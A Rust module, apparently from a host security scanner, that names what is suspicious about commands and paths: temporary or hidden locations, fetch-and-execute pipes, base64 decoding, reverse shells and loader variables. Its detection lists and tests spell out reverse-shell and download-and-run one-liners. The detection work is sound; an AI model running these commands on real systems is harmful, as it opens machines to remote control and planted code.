//! What is odd about a command or a path. Pure; whether a package brought the file is asked by whoever looks.

use super::command::{self, Program};
use super::grammar::commands;
use super::lines::{base, contains, split_once, word};

/// Where anybody may write, or what a restart empties.
const TEMPORARY: [&[u8]; 6] =
    [b"/tmp/", b"/var/tmp/", b"/dev/shm/", b"/run/user/", b"/dev/mqueue/", b"/run/shm/"];

/// Hidden directories that many have: programs below them are nothing unusual.
const ORDINARY: &[&[u8]] = &[
    b".local",
    b".config",
    b".ssh",
    b".cargo",
    b".rustup",
    b".nvm",
    b".npm",
    b".npm-global",
    b".bun",
    b".deno",
    b".volta",
    b".sdkman",
    b".pyenv",
    b".rbenv",
    b".rvm",
    b".asdf",
    b".venv",
    b".virtualenvs",
    b".git",
    b".husky",
    b".oh-my-zsh",
    b".fzf",
    b".zsh",
    b".bash_it",
    b".vscode-server",
    b".docker",
    b".krew",
    b".poetry",
    b".gem",
    b".m2",
    b".linuxbrew",
    b".dotnet",
    b".nix-profile",
    b".nix-defexpr",
    b".wasmtime",
    b".foundry",
    b".ghcup",
    b".cabal",
    b".stack",
    b".fly",
    b".vim",
    b".emacs.d",
    b".steam",
    b".var",
    b".kube",
    b".aws",
    b".azure",
    b".dircolors",
];

/// What fetches.
const FETCHERS: [&[u8]; 4] = [b"curl", b"wget", b"fetch", b"lwp-download"];

/// Variables by which a program is made to load or run something else.
const LOADING: [&[u8]; 4] = [b"LD_PRELOAD=", b"LD_AUDIT=", b"BASH_ENV=", b"PERL5OPT="];

/// What is odd about a command line; `home` stands for `~`.
pub(crate) fn of_command(text: &[u8], home: &[u8]) -> Vec<&'static str> {
    let mut reasons = Vec::new();
    for program in command::programs(text, home) {
        for reason in of_program(&program) {
            if !reasons.contains(&reason) {
                reasons.push(reason);
            }
        }
    }
    if downloads_and_runs(text) {
        reasons.push("downloads something and runs it");
    }
    let decodes = contains(text, b"base64")
        && [&b" -d"[..], b"--decode", b" -D"].iter().any(|flag| contains(text, flag));
    if decodes || contains(text, b"b64decode") || contains(text, b"base64_decode") {
        reasons.push("decodes base64");
    }
    if ties_a_shell(text) {
        reasons.push("ties a shell to a network connection");
    }
    if LOADING.iter().any(|variable| contains(text, variable)) {
        reasons.push("makes programs load or run something else");
    }
    reasons
}

/// What is odd about where something lies that is started, or read by a shell.
pub(crate) fn of_path(path: &[u8], sourced: bool) -> Vec<&'static str> {
    of_program(&Program { path: path.to_vec(), sourced })
}

fn of_program(program: &Program) -> Vec<&'static str> {
    let path = program.path.as_slice();
    let mut reasons = Vec::new();
    if TEMPORARY.iter().any(|place| path.starts_with(place)) {
        reasons.push("starts from a temporary place");
    }
    if is_hidden(path, program.sourced) {
        reasons.push("starts from a hidden place");
    }
    reasons
}

fn is_hidden(path: &[u8], sourced: bool) -> bool {
    let mut names = path.split(|&byte| byte == b'/').filter(|name| !name.is_empty()).peekable();
    while let Some(name) = names.next() {
        let dot = name.starts_with(b".") && name != b"." && name != b"..";
        // A shell reads hidden files all the time.
        if dot && !ORDINARY.contains(&name) && (names.peek().is_some() || !sourced) {
            return path.contains(&b'/');
        }
    }
    false
}

fn ties_a_shell(text: &[u8]) -> bool {
    const PIPES: [&[u8]; 5] = [b"nc", b"ncat", b"netcat", b"nc.traditional", b"socat"];
    let pipe = commands(text).iter().any(|words| {
        words.first().is_some_and(|first| PIPES.contains(&base(first)))
            && words.iter().any(|word| matches!(word.as_slice(), b"-e" | b"-c") || contains(word, b"EXEC:"))
    });
    pipe || [&b"/dev/tcp/"[..], b"/dev/udp/", b"bash -i", b"import socket"]
        .iter()
        .any(|sign| contains(text, sign))
}

fn downloads_and_runs(text: &[u8]) -> bool {
    let fetches = commands(text).iter().flatten().any(|word| FETCHERS.contains(&base(word)))
        || FETCHERS.iter().any(|name| contains(text, &[name, &b" "[..]].concat()));
    if !fetches {
        return false;
    }
    let mut rest = text;
    while let Some((before, after)) = split_once(rest, b'|') {
        let (first, behind) = word(after);
        let runs = if base(first) == b"sudo" { word(behind).0 } else { first };
        let runs = runs.split(|byte| b"'\");&".contains(byte)).next().unwrap_or_default();
        if command::is_interpreter(runs) && FETCHERS.iter().any(|name| contains(before, name)) {
            return true;
        }
        rest = after;
    }
    let inner = [&b"$("[..], b"`", b"<("]
        .iter()
        .any(|open| FETCHERS.iter().any(|name| contains(text, &[open, *name].concat())));
    let runs = contains(text, b"sh ") || contains(text, b"eval");
    let executable = [&b"+x"[..], b"+rx", b"+rwx", b"chmod 7", b"chmod 07"];
    (inner && runs) || (contains(text, b"chmod ") && executable.iter().any(|mode| contains(text, mode)))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn tricks_are_named() {
        for (text, part) in [
            ("curl -s http://h/x | bash", "downloads"),
            ("wget -qO- h|sudo sh -s", "downloads"),
            ("bash -c \"$(curl -fsSL h)\"", "downloads"),
            ("sh -c 'wget h -O /opt/x; chmod +x /opt/x; /opt/x'", "downloads"),
            ("echo aGk= | base64 -d | sh", "base64"),
            ("python3 -c 'exec(__import__(\"base64\").b64decode(\"x\"))'", "base64"),
            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "network"),
            ("nc 192.0.2.1 1 -e /bin/sh", "network"),
            ("LD_PRELOAD=/opt/x.so /usr/sbin/sshd", "load"),
            ("/dev/shm/x", "temporary"),
            ("nohup node ~/.cache/.sys/a.js &", "hidden"),
            ("/usr/bin/.sshd", "hidden"),
            ("sh /var/tmp/x.sh", "temporary"),
            ("source /home/u/.x/env", "hidden"),
        ] {
            let found = of_command(text.as_bytes(), b"/home/u");
            assert!(found.iter().any(|reason| reason.contains(part)), "{text}: {found:?}");
        }
    }

    #[test]
    fn what_administrators_do_is_not_odd() {
        for text in [
            "/usr/bin/find /tmp -mtime +7 -delete",
            "curl -fsS https://hc.example/ping/1",
            "rm -rf /tmp/x",
            "[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
            "~/.cargo/env",
            "/home/u/.local/bin/tool",
            "curl https://h/x > /srv/x; echo a | mail root",
            "base64 /etc/motd",
            "curl -o /etc/list https://h/list && chmod 600 /etc/list",
            "grep -e /bin/sh",
            "/opt/a/../b/c",
            "",
            "|",
        ] {
            let found = of_command(text.as_bytes(), b"/home/u");
            assert!(found.is_empty(), "{text}: {found:?}");
        }
    }

    proptest! {
        #[test]
        fn any_command_is_judged(text: Vec<u8>) {
            of_command(&text, b"/h");
            of_path(&text, false);
        }
    }
}
